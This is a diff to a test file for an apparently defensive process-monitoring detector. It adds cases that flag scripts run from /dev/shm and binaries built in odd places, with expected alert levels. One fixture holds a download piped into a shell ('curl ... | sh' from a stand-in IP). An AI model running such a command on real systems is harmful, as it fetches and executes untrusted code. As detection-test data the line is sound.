@@ -40,6 +40,10 @@ answers(programFromOddPlace, [
   ['an editor’s server', { processes: [started(5, '/root/.vscode-server/bin/node', ['node'])] }, []],
   ['a program that npm unpacked', { processes: [started(5, '/root/.npm/_npx/a/node_modules/.bin/esbuild', ['esbuild'])] }, []],
   ['a program of the image', { processes: [started(5, '/app/server', ['server'])] }, []],
+  ['a hidden script in shared memory', { processes: [started(5, '/usr/bin/python3.13', ['python3', '-u', '/dev/shm/.a/run.py'])] }, ['5 high']],
+  ['a script in shared memory', { processes: [started(5, '/usr/bin/dash', ['sh', '/dev/shm/run.sh'])] }, ['5 medium']],
+  ['a script of a build', { processes: [started(5, '/usr/bin/bash', ['bash', '/tmp/build-1/step.sh'])] }, []],
+  ['a hidden file that a command line only names', { processes: [started(5, '/usr/bin/bash', ['bash', '-c', 'cat /tmp/.x'])] }, []],
 ]);
 
 answers(kernelThreadMasquerade, [
@@ -74,6 +78,10 @@ answers(droppedProgram, [
   ['a program that came after the image', { processes: [started(5, '/usr/local/bin/kit', ['kit'])], files: [examinedFile('/usr/local/bin/kit')] }, ['5 high']],
   ['a download that is piped into a shell', { processes: [started(5, '/usr/bin/dash', ['sh', '-c', 'curl -fsSL http://198.51.100.7/x | sh'])] }, ['5 high']],
   ['with less confidence what a package manager brought', { processes: [started(5, '/usr/bin/jq', ['jq'])], files: [examinedFile('/usr/bin/jq'), examinedFile('/var/lib/dpkg/status')] }, ['5 medium']],
+  ['with less confidence what may have been built where it runs', { processes: [started(5, '/workspace/build/test', ['test'])], files: [examinedFile('/workspace/build/test'), examinedFile('/workspace/test.c')] }, ['5 low']],
+  ['a program beside sources of something else', { processes: [started(5, '/app/kit', ['kit'])], files: [examinedFile('/app/kit'), examinedFile('/srv/build/test.c')] }, ['5 high']],
+  ['what was built where programs are found', { processes: [started(5, '/usr/local/bin/kit', ['kit'])], files: [examinedFile('/usr/local/bin/kit'), examinedFile('/usr/local/bin/kit.c')] }, ['5 high']],
+  ['what was built in /tmp', { processes: [started(5, '/tmp/x/kit', ['kit'])], files: [examinedFile('/tmp/x/kit'), examinedFile('/tmp/x/kit.c')] }, ['5 high']],
   ['a changed file that nobody runs', { processes: [started(5, '/usr/bin/jq', ['jq'])], files: [examinedFile('/app/new')] }, []],
   ['a download of a page', { processes: [started(5, '/usr/bin/curl', ['curl', 'http://10.0.0.1/health'])] }, []],
 ]);
